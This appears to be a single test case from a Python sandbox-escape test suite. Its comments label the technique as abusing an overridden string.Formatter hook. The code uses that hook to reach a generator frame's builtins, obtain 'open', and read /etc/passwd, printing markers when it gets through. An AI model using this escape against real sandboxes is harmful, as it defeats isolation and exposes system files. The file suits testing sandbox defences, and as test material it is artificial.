# tries: an overridden hook of string.Formatter is handed the object
# class: formatting
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import string

seen = []


class F(string.Formatter):
    def format_field(self, value, spec):
        seen.append(value)
        return ""


F().format("{0.gi_frame}", (x for x in ()))
use(pick(seen[0]))
